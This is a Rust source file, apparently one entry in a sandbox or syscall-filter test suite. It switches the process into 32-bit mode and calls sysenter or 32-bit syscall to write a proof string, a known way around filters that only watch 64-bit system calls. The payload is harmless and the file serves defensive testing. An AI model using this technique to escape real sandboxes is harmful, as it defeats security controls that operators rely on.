//! X3: uses the fast 32-bit entries of the processor, `sysenter` and 32-bit `syscall`.

use std::io;

use super::compat::{WRITE, low};
use crate::attack::Attack;
use crate::attacks::kernel::{Page, child, wait};
use crate::attacks::proof;

pub(super) const ROW: Attack = Attack {
    id: "X3",
    name: "sysenter",
    what: "calls through the fast 32-bit entries of the processor",
    prepare: proof::demanded,
    attack,
    ..Attack::ROW
};

const CODE32: u64 = 0x23;
const SYSENTER: [u8; 2] = [0x0f, 0x34];
const SYSCALL: [u8; 2] = [0x0f, 0x05];

fn attack(args: &[String]) -> io::Result<()> {
    let proof = proof::of(proof::arg(args, 0)?);
    // One of the two exists on each maker's processors; the child crashes after the call either way.
    for entry in [SYSENTER, SYSCALL] {
        let text = low(&proof)?;
        let code = Page::low(true)?;
        code.put(0, &program(entry, text.low_address()?, proof.len() as u32));
        wait(child(|| unsafe {
            std::arch::asm!("push {segment}", "push {target}", "retfq",
                    segment = in(reg) CODE32, target = in(reg) code.address(), options(noreturn));
        })?)?;
    }
    Ok(())
}

/// `write(1, text, length)` by a fast entry: the sixth argument is read from the stack, which is the text itself.
fn program(entry: [u8; 2], text: u32, length: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let moves = [(0xb8, WRITE), (0xbb, 1), (0xb9, text), (0xba, length), (0xbd, text), (0xbc, text)];
    for (opcode, word) in moves {
        bytes.push(opcode);
        bytes.extend(word.to_le_bytes());
    }
    bytes.extend(entry);
    bytes
}
